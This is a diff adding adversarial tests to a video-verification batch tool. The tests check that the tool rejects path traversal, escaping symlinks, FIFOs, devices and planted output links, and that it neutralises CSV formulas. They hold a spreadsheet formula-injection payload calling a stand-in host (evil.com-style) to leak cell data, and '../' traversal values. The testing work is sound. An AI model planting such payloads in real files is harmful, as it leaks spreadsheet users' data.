@@ -1,18 +1,27 @@
 """geoverify batch on a Telegram-style export built from the real sample media: every row,
-resume, duplicates, near-duplicates, failures, and the same rows on a Dask LocalCluster."""
+resume, duplicates, near-duplicates, failures, and the same rows on a Dask LocalCluster; then
+hostile inputs and output folders (links, FIFOs, devices, bad export messages, formula cells,
+folders of the user's, two batches at once, a SIGKILL), each with real files and processes."""
 
 from __future__ import annotations
 
 import csv
+import hashlib
 import json
 import os
+import re
 import runpy
 import shutil
+import subprocess
+import sys
+import time
 from datetime import UTC, datetime
+from fractions import Fraction
 from pathlib import Path
 
 import pytest
 from conftest import KARMA, ROOT
+from fixtures import write_clip
 from typer.testing import CliRunner
 
 from geoverify.batch import collect_inputs, read_telegram_export, verify_batch
@@ -280,3 +289,447 @@ def test_pool_workers_get_one_blas_thread_each(monkeypatch):
     assert "OPENBLAS_NUM_THREADS" not in os.environ
     with _blas_threads(0):  # automatic: nothing set
         assert "OPENBLAS_NUM_THREADS" not in os.environ
+
+
+# --- hostile inputs: the adversarial sweep of December 2026 ----------------------------------
+#
+# Each case is a real file, folder, link, FIFO or device, run through the real command (in a
+# subprocess with a time limit, so that a hang fails the test instead of stalling the suite).
+
+GEOVERIFY = Path(sys.executable).parent / "geoverify"
+REGISTRY = BERLIN / "registry.geojson"
+EVIL_CHANNEL = '=HYPERLINK("http://evil.example/?"&A2,"open")'
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _run(*args, timeout=300):
+    return subprocess.run(
+        [str(GEOVERIFY), *map(str, args)], capture_output=True, text=True, timeout=timeout
+    )
+
+
+def _batch_args(*inputs, out):
+    return ["batch", *inputs, "--registry", REGISTRY, "--out", out, "--workers", "1",
+            "--best", "2", "--affine", "off"]  # fmt: skip
+
+
+def _reencode(src, dst, *, size, fps, bit_rate):
+    """Decode ``src`` and encode it again (MPEG-4 Part 2) at another size, frame rate and bit
+    rate, as a platform's re-upload does: other bytes, the same pictures at the same times."""
+    import av
+    import cv2
+    import numpy as np
+
+    with av.open(str(src)) as inp:
+        decoded = [
+            (float(f.pts * f.time_base), f.to_ndarray(format="rgb24"))
+            for f in inp.decode(inp.streams.video[0])
+        ]
+    times = [t for t, _ in decoded]
+    end = times[-1] + (times[-1] - times[-2])
+    with av.open(str(dst), "w", format="mp4") as out:
+        stream = out.add_stream("mpeg4", rate=fps)
+        stream.width, stream.height = size
+        stream.pix_fmt = "yuv420p"
+        stream.bit_rate = bit_rate
+        for k in range(round(end * fps)):
+            i = max(0, int(np.searchsorted(times, k / fps, side="right")) - 1)
+            img = cv2.resize(decoded[i][1], size, interpolation=cv2.INTER_AREA)
+            frame = av.VideoFrame.from_ndarray(img, format="rgb24")
+            frame.pts, frame.time_base = k, Fraction(1, fps)
+            out.mux(stream.encode(frame))
+        out.mux(stream.encode())
+    return dst
+
+
+def _message(n, file, **extra):
+    return {"id": n, "type": "message", "date_unixtime": str(1_767_600_000 + 3600 * n),
+            "media_type": "video_file", "file": file, "text": f"post {n}", **extra}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """A Telegram export whose channel name is a spreadsheet formula, holding the real Karma
+    clip, a heavily re-encoded re-upload of it, and one bad message of each kind."""
+    root = tmp_path_factory.mktemp("hostile")
+    export = root / "export"
+    files = export / "video_files"
+    files.mkdir(parents=True)
+    shutil.copyfile(KARMA, files / "karma.mp4")
+    # a re-upload at another size, frame rate and a low bit rate: its report picks other
+    # frames than the original's (its sharpest frames are others)
+    _reencode(KARMA, files / "karma_reupload.mp4", size=(426, 240), fps=25, bit_rate=100_000)
+    write_clip(root / "secret.mp4", n_frames=12)  # outside the export: never read
+    os.symlink(root / "secret.mp4", files / "leak.mp4")
+    os.symlink("loop.mp4", files / "loop.mp4")
+    os.mkfifo(files / "fifo.mp4")
+    messages = [
+        _message(1, "video_files/karma.mp4"),
+        _message(2, "video_files/karma_reupload.mp4"),
+        _message(3, "video_files/absent.mp4"),  # C1: the file is not there
+        _message(4, "video_files"),  # C2: a folder
+        _message(5, "video_files/loop.mp4"),  # C3: a link loop
+        _message(6, "video_files/a\0.mp4"),  # C4: a NUL in the name
+        _message(7, "video_files/karma.mp4",  # C5: a latitude of 400 digits
+                 location_information={"latitude": int("1" * 400), "longitude": 1}),
+        _message(8, "video_files/fifo.mp4"),  # H1: a FIFO
+        _message(9, "video_files/leak.mp4"),  # a link that leaves the export
+        _message(10, "../secret.mp4"),  # a path that leaves it
+    ]  # fmt: skip
+    doc = {"name": EVIL_CHANNEL, "type": "public_channel", "id": 1, "messages": messages}
+    (export / "result.json").write_text(json.dumps(doc))
+    out = root / "out"
+    proc = _run(*_batch_args(export, out=out), "--json")
+    return root, out, proc
+
+
+def _by_message(result):
+    return {p["message_id"]: r for r in result["rows"] for p in r["posts"]}
+
+
+def test_one_bad_message_is_its_own_row_and_the_batch_finishes(hostile):
+    root, out, proc = hostile
+    assert proc.returncode == 5, proc.stderr
+    assert "Traceback" not in proc.stderr
+    rows = _by_message(json.loads(proc.stdout))
+    assert rows[1]["status"] == rows[2]["status"] == "done"
+    expected = {
+        3: ("missing", "E_INPUT_MISSING"),
+        4: ("failed", "E_INPUT_NOT_REGULAR"),  # a folder
+        5: ("failed", "E_INPUT_UNREADABLE"),  # a link loop
+        6: ("failed", "E_EXPORT_INVALID"),  # a NUL in the name
+        7: ("failed", "E_EXPORT_INVALID"),  # the latitude
+        8: ("failed", "E_INPUT_NOT_REGULAR"),  # a FIFO: refused, not waited on
+        9: ("failed", "E_INPUT_OUTSIDE"),
+        10: ("failed", "E_INPUT_OUTSIDE"),
+    }
+    assert {n: (rows[n]["status"], rows[n]["error_code"]) for n in expected} == expected
+    assert "message 7" in rows[7]["error_message"]
+    # the file outside the export was never read: its hash is nowhere in the summary
+    secret = hashlib.sha256((root / "secret.mp4").read_bytes()).hexdigest()
+    assert secret not in (out / "summary.json").read_text()
+
+
+def test_a_reencoded_reupload_is_linked_with_its_distance(hostile):
+    _, out, proc = hostile
+    rows = _by_message(json.loads(proc.stdout))
+    original, reupload = rows[1], rows[2]
+    assert original["file_sha256"] != reupload["file_sha256"]
+    [(key, distance)] = reupload["near_duplicates"]
+    assert key == original["key"]
+    assert 0 <= distance <= 10
+    assert original["near_duplicates"] == [[reupload["key"], distance]]
+    with (out / "summary.csv").open(newline="") as fh:
+        table = {r["key"]: r for r in csv.DictReader(fh)}
+    assert table[reupload["key"]]["near_duplicates"] == f"{original['key']}:{distance}"
+    assert (
+        f"looks like {original['key'][:12]} ({distance} bits)" in (out / "index.html").read_text()
+    )
+
+
+def test_summary_csv_cells_are_never_formulas(hostile):
+    from geoverify.batch import _csv_cell
+
+    _, out, _ = hostile
+    with (out / "summary.csv").open(newline="") as fh:
+        table = list(csv.DictReader(fh))
+    cells = [v for row in table for v in row.values() if v]
+    assert not [v for v in cells if v.startswith(FORMULA_START)]
+    assert "'" + EVIL_CHANNEL in cells  # kept whole, as text
+    # a file name such as `=1+2.mp4` (a path cell relative to the current folder) likewise
+    assert _csv_cell("=1+2.mp4") == "'=1+2.mp4"
+    assert [_csv_cell(v) for v in ("+1", "-1", "@SUM(A1)", "\tx", "\rx")] == [
+        "'+1",
+        "'-1",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+    ]
+    assert _csv_cell("karma.mp4") == "karma.mp4"
+
+
+def test_every_file_of_a_batch_folder_is_listed_by_a_manifest(hostile):
+    from geoverify._output import survey_output_dir
+
+    _, out, _ = hostile
+    assert survey_output_dir(out).foreign == ()
+    manifest = json.loads((out / "manifest.json").read_text())
+    assert manifest["written_by"] == "geoverify batch"
+    assert {"summary.json", "summary.csv", "index.html"} <= set(manifest["files"])
+    rows = [n for n in manifest["files"] if n.endswith("/row.json")]
+    assert len(rows) == 2  # each finished item's row, listed by its own manifest too
+
+
+@pytest.fixture(scope="module")
+def folder_run(tmp_path_factory):
+    """A folder holding a clip, a link to it, a link leaving the folder and a FIFO; plus a
+    device, a FIFO and a missing path given as inputs."""
+    root = tmp_path_factory.mktemp("folder")
+    folder = root / "in"
+    folder.mkdir()
+    write_clip(folder / "a.mp4")
+    write_clip(root / "secret.mp4", n_frames=12)
+    os.symlink(root / "secret.mp4", folder / "b.mp4")  # S1: leaves the folder
+    os.symlink("a.mp4", folder / "c.mp4")  # stays inside: the same file
+    os.mkfifo(folder / "d.mp4")
+    os.mkfifo(root / "e.mp4")
+    out = root / "out"
+    proc = _run(*_batch_args(folder, "/dev/zero", root / "e.mp4", root / "missing.mp4", out=out),
+                "--json")  # fmt: skip
+    return root, out, proc
+
+
+def test_links_fifos_devices_and_missing_paths_are_rows(folder_run):
+    root, out, proc = folder_run
+    assert proc.returncode == 5, proc.stderr
+    rows = {Path(r["paths"][0]).name: r for r in json.loads(proc.stdout)["rows"]}
+    assert rows["a.mp4"]["status"] == "done"
+    assert [Path(p).name for p in rows["a.mp4"]["duplicates"]] == ["c.mp4"]
+    got = {name: (r["status"], r["error_code"]) for name, r in rows.items() if name != "a.mp4"}
+    assert got == {
+        "b.mp4": ("failed", "E_INPUT_OUTSIDE"),
+        "d.mp4": ("failed", "E_INPUT_NOT_REGULAR"),
+        "zero": ("failed", "E_INPUT_NOT_REGULAR"),
+        "e.mp4": ("failed", "E_INPUT_NOT_REGULAR"),
+        "missing.mp4": ("missing", "E_INPUT_MISSING"),
+    }
+    secret = hashlib.sha256((root / "secret.mp4").read_bytes()).hexdigest()
+    assert secret not in (out / "summary.json").read_text()
+
+
+def test_an_out_inside_an_input_folder_is_skipped_never_read_back(tmp_path):
+    # W1: --out inside the input folder: the walk skips it, so a second run reads the same
+    # inputs and reuses every item instead of verifying its own frames
+    src = tmp_path / "in"
+    src.mkdir()
+    write_clip(src / "a.mp4")
+    inside = src / "out"
+    first = runner.invoke(app, [str(a) for a in _batch_args(src, out=inside)] + ["--json"])
+    assert first.exit_code in (0, 5), first.stderr
+    again = runner.invoke(app, [str(a) for a in _batch_args(src, out=inside)] + ["--json"])
+    assert again.exit_code == first.exit_code, again.stderr
+    rows1 = json.loads(first.stdout)["rows"]
+    rows2 = json.loads(again.stdout)["rows"]
+    assert len(rows1) == len(rows2) == 1
+    assert json.loads(again.stdout)["reused"] == 1
+    assert not any("/out/" in p for r in rows2 for p in r["paths"])
+
+
+def test_an_out_holding_an_input_is_refused(folder_run, tmp_path):
+    root, _, _ = folder_run
+    # the registry's folder holds the registry
+    case = tmp_path / "case"
+    shutil.copytree(BERLIN, case)
+    args = _batch_args(root / "in" / "a.mp4", out=case)
+    args[args.index(REGISTRY)] = case / "registry.geojson"
+    result = runner.invoke(app, [str(a) for a in args])
+    assert result.exit_code == 7
+    assert "E_OUTPUT_HOLDS_INPUT" in result.stderr
+    assert sorted(p.name for p in case.iterdir()) == sorted(p.name for p in BERLIN.iterdir())
+
+
+def test_no_existing_input_is_an_error_and_writes_nothing(tmp_path):
+    out = tmp_path / "out"
+    result = runner.invoke(app, [str(a) for a in _batch_args(tmp_path / "typo.mp4", out=out)])
+    assert result.exit_code == 3
+    assert "E_INPUT_MISSING" in result.stderr
+    assert not out.exists()
+
+
+def _options_named(text):
+    return set(re.findall(r"--[a-z][a-z-]+", text))
+
+
+def test_a_folder_of_the_users_files_is_not_claimed(tmp_path):
+    # D4: a folder holding a summary.json of the user's is not a batch folder
+    clip = write_clip(tmp_path / "clip.mp4")
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "summary.json").write_text('{"mine": 1}')
+    (out / "index.html").write_text("<h1>mine</h1>")
+    help_text = runner.invoke(app, ["batch", "--help"], terminal_width=200).output
+    for extra in ([], ["--overwrite"]):  # --overwrite never replaces a file of the user's
+        result = runner.invoke(app, [str(a) for a in _batch_args(clip, out=out)] + extra)
+        assert result.exit_code == 7, result.output
+        assert "E_OUTPUT_NOT_EMPTY" in result.stderr
+        assert _options_named(result.stderr) <= _options_named(help_text)  # the hint is true
+    assert (out / "summary.json").read_text() == '{"mine": 1}'
+    assert (out / "index.html").read_text() == "<h1>mine</h1>"
+    assert sorted(p.name for p in out.iterdir()) == ["index.html", "summary.json"]
+
+
+def test_overwrite_writes_beside_the_users_files_and_planted_links_are_refused(tmp_path):
+    clip = write_clip(tmp_path / "clip.mp4")
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "notes.txt").write_text("mine")
+    proc = _run(*_batch_args(clip, out=out), "--overwrite")
+    assert proc.returncode == 0, proc.stderr
+    assert (out / "notes.txt").read_text() == "mine"
+    assert "notes.txt" not in json.loads((out / "manifest.json").read_text())["files"]
+    assert (out / "summary.csv").is_file()
+    # a batch killed while it wrote its summaries: the manifest names the new ones as pending
+    manifest = json.loads((out / "manifest.json").read_text())
+    new_csv = (out / "summary.csv").read_bytes() + b"written, not yet listed\n"
+    manifest["pending"] = {"summary.csv": hashlib.sha256(new_csv).hexdigest()}
+    (out / "manifest.json").write_text(json.dumps(manifest))
+    (out / "summary.csv").write_bytes(new_csv)
+    proc = _run(*_batch_args(clip, out=out), "--overwrite")
+    assert proc.returncode == 0, proc.stderr  # the batch's own file, known as such
+    assert b"not yet listed" not in (out / "summary.csv").read_bytes()
+    # an analyst's edit of summary.csv makes it theirs: kept, even with --overwrite
+    (out / "summary.csv").write_text("my notes\n")
+    proc = _run(*_batch_args(clip, out=out), "--overwrite")
+    assert proc.returncode == 7
+    assert "E_OUTPUT_NOT_EMPTY" in proc.stderr
+    assert (out / "summary.csv").read_text() == "my notes\n"
+    # S2: a link planted in place of summary.csv
+    victim = tmp_path / "victim.txt"
+    victim.write_text("victim")
+    (out / "summary.csv").unlink()
+    (out / "summary.csv").symlink_to(victim)
+    result = runner.invoke(app, [str(a) for a in _batch_args(clip, out=out)] + ["--overwrite"])
+    assert result.exit_code == 7
+    assert "E_OUTPUT_SYMLINK" in result.stderr
+    assert victim.read_text() == "victim"
+    (out / "summary.csv").unlink()
+    # S3: a link planted in place of items/
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    shutil.rmtree(out / "items")
+    (out / "items").symlink_to(elsewhere)
+    result = runner.invoke(app, [str(a) for a in _batch_args(clip, out=out)] + ["--overwrite"])
+    assert result.exit_code == 7
+    assert "E_OUTPUT_SYMLINK" in result.stderr
+    assert list(elsewhere.iterdir()) == []
+
+
+def test_a_link_planted_during_the_run_is_not_written_through(tmp_path):
+    # the batch checked --out, then items/ became a link before a worker saved its item
+    from geoverify.batch import run_item
+    from geoverify.models import to_jsonable
+
+    clip = write_clip(tmp_path / "clip.mp4")
+    out = tmp_path / "out"
+    out.mkdir()
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (out / "items").symlink_to(elsewhere)
+    task = {
+        "key": "k", "sha256": "0" * 64, "path": str(clip), "registry": str(REGISTRY),
+        "claims": "", "out": str(out), "posted_utc": "", "overwrite": False,
+        "options": {"matching": {"affine": "off"}, "frames": to_jsonable(FrameOptions(best=1))},
+    }  # fmt: skip
+    row = run_item(task)
+    assert (row["status"], row["error_code"]) == ("failed", "E_OUTPUT_SYMLINK")
+    assert list(elsewhere.iterdir()) == []
+
+
+def _children(pid):
+    """The pool workers of ``pid`` (spawned interpreters), from /proc."""
+    kids = []
+    for entry in Path("/proc").iterdir():
+        if not entry.name.isdigit():
+            continue
+        try:
+            fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
+            cmdline = (entry / "cmdline").read_bytes()
+        except OSError:
+            continue
+        if int(fields[1]) == pid and b"spawn_main" in cmdline:
+            kids.append(int(entry.name))
+    return kids
+
+
+def _alive(pid):
+    try:
+        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+    except OSError:
+        return False
+    return state != "Z"
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
+def test_a_running_batch_owns_its_folder_and_its_workers_die_with_it(tmp_path):
+    # W10: a second batch into the same --out is refused while the first runs; W7: after a
+    # SIGKILL of the batch its workers write nothing more; the folder then resumes
+    folder = tmp_path / "in"
+    folder.mkdir()
+    for k in range(6):
+        write_clip(folder / f"v{k}.mp4", n_frames=20 + k)
+    out = tmp_path / "out"
+    first = subprocess.Popen(
+        [str(GEOVERIFY), *map(str, _batch_args(folder, out=out)), "--workers", "2"],
+        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+    )  # fmt: skip
+    try:
+        deadline = time.monotonic() + 120
+        while not (out / "manifest.json").exists() and time.monotonic() < deadline:
+            time.sleep(0.05)
+        second = _run(*_batch_args(write_clip(tmp_path / "b.mp4"), out=out), timeout=120)
+        assert second.returncode == 7, second.stderr
+        assert "E_OUTPUT_BUSY" in second.stderr
+        while not list(out.glob("items/*/row.json")) and time.monotonic() < deadline:
+            time.sleep(0.05)
+        workers = _children(first.pid)
+        assert workers, "the batch has no pool workers"
+        assert first.poll() is None, "the batch finished before it could be killed"
+        first.kill()  # SIGKILL: no handler, no clean-up
+        first.wait(timeout=30)
+    finally:
+        if first.poll() is None:
+            first.kill()
+            first.wait()
+    deadline = time.monotonic() + 10
+    while any(_alive(w) for w in workers) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert not [w for w in workers if _alive(w)], "workers outlived the killed batch"
+    finished = {p.parent.name for p in out.glob("items/*/row.json")}
+    time.sleep(2)
+    assert {p.parent.name for p in out.glob("items/*/row.json")} == finished
+    # the killed batch's folder is geoverify's: it resumes, reusing what was finished
+    rest = verify_batch([folder], registry=REGISTRY, out=out, workers=1, affine="off",
+                        frames=FEW)  # fmt: skip
+    assert rest.reused == len(finished)
+    assert (rest.done, len(rest.rows)) == (6 - len(finished), 6)
+    assert len(json.loads((out / "summary.json").read_text())["rows"]) == 6
+
+
+def test_the_scheduler_address_is_checked_before_any_work(tmp_path):
+    from geoverify import InputError
+    from geoverify.batch import _scheduler_address
+
+    for bad in ("not a url", "tcp://host", "tcp://host:99999", "http://host:80", "tcp://h:1/x",
+                "tcp://:8786", ""):  # fmt: skip
+        with pytest.raises(InputError) as caught:
+            _scheduler_address(bad)
+        assert caught.value.code == "E_INPUT_OPTION"
+    # C9: refused before a file is hashed or a folder made
+    result = runner.invoke(app, [str(a) for a in _batch_args(KARMA, out=tmp_path / "o")]
+                           + ["--scheduler", "not a url"])  # fmt: skip
+    assert result.exit_code == 3
+    assert "E_INPUT_OPTION" in result.stderr
+    assert "Traceback" not in result.output
+    assert list(tmp_path.iterdir()) == []
+    pytest.importorskip("dask.distributed")
+    assert _scheduler_address("tcp://127.0.0.1:8786") == "tcp://127.0.0.1:8786"
+    assert _scheduler_address("10.0.0.5:8786") == "tcp://10.0.0.5:8786"
+
+
+def test_a_scheduler_without_dask_names_the_pip_install(tmp_path):
+    # Dask absent: importing it fails as it does when the optional extra is not installed
+    code = (
+        "import sys; sys.modules['dask'] = None; sys.argv[0] = 'geoverify'; "
+        "from geoverify.cli import main; main()"
+    )
+    out = tmp_path / "o"
+    proc = subprocess.run(
+        [sys.executable, "-c", code, *map(str, _batch_args(KARMA, out=out)),
+         "--scheduler", "tcp://127.0.0.1:8786"],
+        capture_output=True, text=True, timeout=120,
+    )  # fmt: skip
+    assert proc.returncode == 1, proc.stderr
+    assert "E_MISSING_DEPENDENCY" in proc.stderr
+    assert "pip install 'geoverify[dask]'" in proc.stderr
+    assert "Traceback" not in proc.stderr
+    assert not out.exists()
